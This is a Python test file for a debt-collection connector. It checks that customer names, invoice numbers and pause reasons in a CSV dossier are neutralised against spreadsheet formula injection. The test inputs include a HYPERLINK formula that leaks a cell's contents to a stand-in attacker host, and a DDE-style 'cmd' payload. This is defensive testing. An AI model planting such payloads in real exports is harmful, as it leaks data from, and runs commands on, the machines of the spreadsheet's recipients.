"""The hand-off dossier's CSV goes to a collection agency, who opens it in a spreadsheet: text
from the ledger (customer names, invoice numbers, pause reasons) must never become a formula."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import UTC, date, datetime

from connector.documents import DocumentSettings, dossier
from connector.documents.csvsafe import neutralise
from connector.domain import Customer, CustomerProfile, Invoice, InvoiceStatus, Money, Snapshot
from connector.domain.pauses import Pause, PauseKind
from connector.render.pdf import Party

TODAY = date(2026, 3, 4)
SETTINGS = DocumentSettings("Acme B.V.", Party("Acme B.V.", ("Keizersgracht 1",)), "nl")
EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik hier")'
EVIL_NUMBER = "@SUM(1+1)"


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_formula_like_names_and_invoice_numbers_reach_the_dossier_csv_as_text() -> None:
    customer = Customer("C1", EVIL_NAME, "x@example.nl", profile=CustomerProfile.BUSINESS)
    invoice = Invoice(
        "I1",
        EVIL_NUMBER,
        "C1",
        InvoiceStatus.OPEN,
        date(2026, 1, 1),
        date(2026, 1, 31),
        Money.of("100", "EUR"),
        Money.of("100", "EUR"),
    )
    pause = Pause(
        1,
        "acme",
        "C1",
        PauseKind.DISPUTE,
        "+31 20 555 0101 called\tabout it",
        "-piet",
        datetime(2026, 2, 2, 10, tzinfo=UTC),
    )
    snapshot = Snapshot({"C1": customer}, {"I1": invoice}, [])
    cells = _cells(dossier(SETTINGS, snapshot, [], [pause], "C1", TODAY).csv)

    assert "'" + EVIL_NAME in cells and EVIL_NAME not in cells
    assert "'" + EVIL_NUMBER in cells and EVIL_NUMBER not in cells
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    assert not [c for c in cells if c.startswith(dangerous) and not _is_number(c)], cells
    # the customer's second invoice, with an ordinary number, is unchanged
    plain = replace(invoice, ref="I2", number="F-2026-001")
    snapshot = Snapshot({"C1": customer}, {"I1": invoice, "I2": plain}, [])
    assert "F-2026-001" in _cells(dossier(SETTINGS, snapshot, [], [], "C1", TODAY).csv)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_each_formula_start_is_neutralised_and_negative_amounts_stay_numbers() -> None:
    for text in ("=1+1", "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(text) == "'" + text
    assert neutralise("-12.50") == "-12.50"
    assert neutralise("Jan Jansen") == "Jan Jansen"
    assert neutralise(Money.of("1", "EUR")) == Money.of("1", "EUR")
